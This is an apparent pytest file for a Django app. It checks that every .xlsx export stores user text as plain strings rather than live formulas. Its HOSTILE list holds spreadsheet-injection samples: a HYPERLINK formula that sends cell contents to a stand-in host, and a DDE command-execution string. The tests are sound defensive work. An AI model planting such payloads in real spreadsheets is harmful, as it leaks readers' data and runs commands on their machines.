"""Issue #9 finding 6: every .xlsx export of the product writes user text as text.

A title typed or imported as ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0`` must reach the
reader's spreadsheet as a string, never as a formula (``<f>`` in the sheet). Each export of
the product is opened here and scanned.
"""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from khoi.documents import services as documents
from khoi.lib import sheets
from khoi.org import services as org_services
from khoi.testing.factories import World
from khoi.work import services
from khoi.work.tests.factories import activity

D = datetime.date
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=1+1",
]


def _strings(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {
        str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value
    }


def _check(data: bytes, expected: list[str]) -> None:
    assert data[:2] == b"PK"
    assert sheets.formulas(data) == []
    found = _strings(data)
    for text in expected:
        assert any(text in s for s in found), text


def test_the_helper_turns_formulas_into_text() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HOSTILE)
    unsafe = io.BytesIO()
    wb.save(unsafe)
    assert sheets.formulas(unsafe.getvalue())  # what openpyxl does by itself
    _check(sheets.to_bytes(wb), HOSTILE)


@pytest.fixture
def hostile(world: World) -> None:
    head = world.users["office_head"]
    for i, title in enumerate(HOSTILE):
        services.do_create_task(
            head, world.office, title=title, due_on=D(2017, 10, 20 + i),
            assignee=world.people["staff"],
        )  # fmt: skip
    org_services.do_add_residential_area(None, world.commune, name=HOSTILE[1], kind="thôn")
    a = activity(world, world.front, HOSTILE[0], start=D(2017, 10, 2))
    b = activity(world, world.women, HOSTILE[0] + " tại KDC", start=D(2017, 10, 3))
    services.do_merge(head, [a, b], services.MergeSpec(HOSTILE[2], world.front, D(2017, 10, 2),
                                                       D(2017, 10, 3)))  # fmt: skip


def test_the_tasks_export(world: World, hostile: None, as_user: Any) -> None:
    response = as_user("office_head").get(reverse("work:task_export"))
    assert response.status_code == 200
    _check(response.content, HOSTILE)


def test_the_activity_import_template(world: World, hostile: None, as_user: Any) -> None:
    response = as_user("staff").get(reverse("work:import_template"))
    assert response.status_code == 200
    _check(response.content, [HOSTILE[1]])


def test_the_residential_area_template(world: World, as_user: Any) -> None:
    response = as_user("staff").get(reverse("org:area_template"))
    _check(response.content, [])


def test_the_periodic_report_appendix(world: World, hostile: None, as_user: Any) -> None:
    report = documents.do_prepare_report(world.users["staff"], world.office, "2017-10")
    response = as_user("staff").get(reverse("documents:report_download", args=[report.pk, "xlsx"]))
    assert response.status_code == 200
    _check(response.content, [HOSTILE[2]])
